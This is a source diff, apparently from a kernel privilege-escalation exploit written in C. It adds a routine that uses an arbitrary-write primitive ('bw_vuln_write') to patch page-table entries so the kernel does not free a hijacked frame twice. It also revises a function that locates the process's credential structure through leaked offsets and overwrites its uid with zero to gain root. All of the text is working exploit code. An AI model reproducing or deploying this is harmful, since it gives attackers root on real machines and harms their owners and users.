@@ -32,15 +32,35 @@ static void use_table(volatile uint64_t *words)
 	}
 }
 
+/* So that the machine lives on, and can tell: the kernel took the frame for a free one, and must
+ * not free it again. */
+static void keep_alive(const volatile void *page)
+{
+	uint64_t places[LEVELS];
+
+	if (board->row == 0) {
+		return;
+	}
+	walk(root_of(&board->self), (uint64_t)page, places);
+	bw_vuln_write(places[LEVELS - 1], 0);
+	bw_vuln_write(board->row, board->row_words[0]);
+	bw_vuln_write(board->row + sizeof(uint64_t), board->row_words[1]);
+}
+
 /* Credentials: this process becomes root. */
 static void use_credentials(volatile uint64_t *words)
 {
-	uint64_t at = board->self.leak.process_uid % PAGE;
-	volatile uint32_t *uid = (volatile uint32_t *)((uint64_t)words + at);
+	uint64_t entry = board->self.leak.process_uid % PAGE - BW_OFFSET_credential__who_uid;
+	const volatile uint64_t *holder =
+		&words[(entry + BW_OFFSET_credential__holder) % PAGE / sizeof(uint64_t)];
+	volatile uint32_t *uid =
+		(volatile uint32_t *)((uint64_t)words + board->self.leak.process_uid % PAGE);
 
-	if (at >= 8 && words[at / 8 - 1] == board->self.leak.process && *uid == ATTACKER) {
+	if (*holder == board->self.leak.process && *uid == ATTACKER) {
 		*uid = 0;
 		(void)getuid();
+		*uid = ATTACKER;
+		keep_alive(words);
 	}
 }
 
